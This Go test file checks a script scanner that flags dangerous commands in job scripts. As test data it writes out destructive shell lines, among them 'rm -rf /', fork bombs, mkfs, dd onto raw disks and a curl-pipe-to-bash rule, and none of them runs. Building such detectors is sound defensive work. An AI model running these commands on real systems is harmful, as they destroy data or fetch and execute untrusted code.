package scriptcheck

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/bkjob/bkjob/platform/errs"
)

func check(t *testing.T, lang int, script string, rules ...Rule) []Result {
	t.Helper()
	compiled, bad := Compile(rules)
	require.Empty(t, bad)
	return Checker{OnSyntaxError: func(err error) { t.Errorf("syntax check: %v", err) }}.Check(context.Background(), lang, []byte(script), compiled)
}

func TestBuiltinPatterns(t *testing.T) {
	for _, tc := range []struct {
		line  string
		level int // 0: no built-in hit
	}{
		{"rm -rf /", LevelFatal},
		{"sudo rm -fr /*", LevelFatal},
		{"rm -r -f / ", LevelFatal},
		{"cd /tmp && rm --recursive --force /", LevelFatal},
		{"rm -rf /tmp/build", 0},
		{"rm -f /", 0},
		{":(){ :|:& };:", LevelFatal},
		{"bomb() { bomb | bomb & }; bomb", LevelFatal},
		{"f() { g | f & }", 0},
		{"mkfs.ext4 /dev/sdb1", LevelFatal},
		{"echo mkfs is a word", 0},
		{"dd if=/dev/zero of=/dev/sda bs=1M", LevelFatal},
		{"dd if=/dev/zero of=/tmp/file bs=1M", 0},
		{"echo x > /dev/sda", LevelFatal},
		{"cat img | tee /dev/nvme0n1", LevelFatal},
		{"echo x > /dev/null", 0},
		{"fdisk /dev/sdb", LevelError},
		{"fdisk -l", 0},
		{"# rm -rf /", 0},
	} {
		t.Run(tc.line, func(t *testing.T) {
			rs := check(t, LangShell, "#!/bin/bash\n"+tc.line+"\n")
			var got int
			for _, r := range rs {
				if r.Line == 2 && r.RuleID == 0 && r.Level > got {
					got = r.Level
				}
			}
			require.Equal(t, tc.level, got, "results: %+v", rs)
		})
	}
}

func TestShebangWarning(t *testing.T) {
	rs := check(t, LangShell, "echo hi\n")
	require.Len(t, rs, 1)
	require.Equal(t, Result{Line: 1, LineContent: "echo hi", MatchContent: "echo hi", Level: LevelWarning,
		Description: "The first line of the script does not define a valid script type, for example: #!/bin/bash"}, rs[0])
	require.Empty(t, check(t, LangPython, "#!/usr/bin/env python3\nprint(1)\n"))
	require.Empty(t, check(t, LangBat, "echo hi\r\n"), "bat has no shebang")
}

func TestSyntaxErrorHasItsLine(t *testing.T) {
	rs := check(t, LangShell, "#!/bin/bash\nif true; then\n  echo x\nfi fi\n")
	require.Len(t, rs, 1, "%+v", rs)
	require.Equal(t, 4, rs[0].Line)
	require.Equal(t, LevelError, rs[0].Level)
	require.Equal(t, "fi fi", rs[0].LineContent)
	require.Contains(t, rs[0].Description, "syntax error")
}

// TestSyntaxCheckNeverRuns: bash -n parses the script; a command with a
// side effect, command substitutions and here-documents included, never
// runs.
func TestSyntaxCheckNeverRuns(t *testing.T) {
	dir := t.TempDir()
	mark := filepath.Join(dir, "ran")
	script := "#!/bin/bash\ntouch " + mark + "\necho $(touch " + mark + "-sub)\ncat <<EOF\n$(touch " + mark + "-heredoc)\nEOF\n"
	rs := check(t, LangShell, script)
	require.Empty(t, rs)
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.Empty(t, entries, "bash -n executed part of the script")
}

func TestSyntaxTimeoutIsAnErrorNotAHang(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := Syntax{}.Check(ctx, []byte("echo hi\n"), []string{"echo hi"})
	require.Error(t, err)
	_, err = Syntax{Bash: filepath.Join(t.TempDir(), "no-bash")}.Check(context.Background(), []byte("x"), []string{"x"})
	require.Error(t, err)
}

func TestRulesMatchPerLineAndLanguage(t *testing.T) {
	rules := []Rule{
		{ID: 7, Expression: `curl\s+\S+\s*\|\s*(ba)?sh`, Languages: []int{LangShell}, Description: "pipe to shell", Action: ActionIntercept},
		{ID: 8, Expression: `shutil\.rmtree`, Languages: []int{LangPython}, Description: "rmtree", Action: ActionScan},
	}
	rs := check(t, LangShell, "#!/bin/bash\necho ok\ncurl http://x/i.sh | bash\nshutil.rmtree\n", rules...)
	require.Len(t, rs, 1)
	require.Equal(t, Result{Line: 3, LineContent: "curl http://x/i.sh | bash", MatchContent: "curl http://x/i.sh | bash",
		Level: LevelFatal, Description: "pipe to shell", RuleID: 7, Action: ActionIntercept}, rs[0])
	require.Equal(t, rs, Intercepting(rs))

	rs = check(t, LangPython, "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/data')\n", rules...)
	require.Len(t, rs, 1)
	require.Equal(t, LevelWarning, rs[0].Level)
	require.Equal(t, int64(8), rs[0].RuleID)
	require.Empty(t, Intercepting(rs), "a scan rule never blocks")
}

func TestCompileExpressionRefusesNamingTheField(t *testing.T) {
	for name, expr := range map[string]string{
		"empty":           "",
		"syntax":          "rm (-rf",
		"backreference":   `(a)\1`,
		"lookahead":       `rm(?=-rf)`,
		"too large":       `((a{1000}){1000}){1000}`,
		"too long":        strings.Repeat("a", MaxExpressionChars+1),
		"matches nothing": `x?`,
		"not utf-8":       "rm\xff",
	} {
		t.Run(name, func(t *testing.T) {
			_, err := CompileExpression("expression", expr)
			require.Error(t, err)
			require.Equal(t, "expression", errs.From(err).Field, "%v", err)
		})
	}
	_, err := CompileExpression("expression", `rm\s+-rf`)
	require.NoError(t, err)
	_, bad := Compile([]Rule{{ID: 3, Expression: "("}, {ID: 4, Expression: "ok"}})
	require.Equal(t, []int64{3}, bad, "a stored rule that no longer compiles is skipped, named")
}

// TestHostileExpressionIsLinear: the classic catastrophic-backtracking
// pattern over a long non-matching line finishes (RE2 is linear); a
// backtracking engine would not finish in the life of the test.
func TestHostileExpressionIsLinear(t *testing.T) {
	line := strings.Repeat("a", 100_000) + "!"
	rs := check(t, LangPerl, "#!/usr/bin/perl\n"+line+"\n",
		Rule{ID: 1, Expression: `^(a+)+$`, Languages: []int{LangPerl}, Action: ActionIntercept},
		Rule{ID: 2, Expression: `^(a|aa)*c$`, Languages: []int{LangPerl}, Action: ActionIntercept},
		Rule{ID: 3, Expression: `(.*a){20}x`, Languages: []int{LangPerl}, Action: ActionIntercept})
	require.Empty(t, rs)
}

func TestHugeScriptIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("#!/bin/bash\n")
	for b.Len() < MaxContentBytes-64 {
		b.WriteString("rm -rf /tmp/x; echo danger\n")
	}
	rs := check(t, LangShell, b.String(), Rule{ID: 1, Expression: "danger", Languages: []int{LangShell}, Description: "d", Action: ActionScan})
	require.Len(t, rs, MaxResults)
	require.Equal(t, 2, rs[0].Line)
}

func TestCapKeepsTheMostSevere(t *testing.T) {
	var b strings.Builder
	b.WriteString("#!/bin/bash\n")
	for range MaxResults + 10 {
		b.WriteString("echo warn\n")
	}
	b.WriteString("echo block\n")
	rs := check(t, LangShell, b.String(),
		Rule{ID: 1, Expression: "warn", Languages: []int{LangShell}, Action: ActionScan},
		Rule{ID: 2, Expression: "block", Languages: []int{LangShell}, Action: ActionIntercept})
	require.Len(t, rs, MaxResults)
	require.Len(t, Intercepting(rs), 1, "the intercept hit on the last line survives the cap")
}

func TestBinaryContent(t *testing.T) {
	script := "#!/bin/bash\n\x00\x01\xff\xfe rm -rf / \x00\n\xc3\x28 danger\n"
	rs := check(t, LangShell, script, Rule{ID: 1, Expression: "danger", Languages: []int{LangShell}, Description: "d", Action: ActionScan})
	require.NotEmpty(t, rs)
	for _, r := range rs {
		require.True(t, utf8.ValidString(r.LineContent), "%q", r.LineContent)
		require.True(t, utf8.ValidString(r.MatchContent), "%q", r.MatchContent)
	}
}

func TestLongLinesAreClipped(t *testing.T) {
	line := "danger " + strings.Repeat("x", 10_000)
	rs := check(t, LangShell, "#!/bin/bash\n"+line+"\n", Rule{ID: 1, Expression: "danger.*", Languages: []int{LangShell}, Action: ActionScan})
	require.Len(t, rs, 1)
	require.LessOrEqual(t, utf8.RuneCountInString(rs[0].LineContent), maxShown+1)
	require.LessOrEqual(t, utf8.RuneCountInString(rs[0].MatchContent), maxShown+1)
}
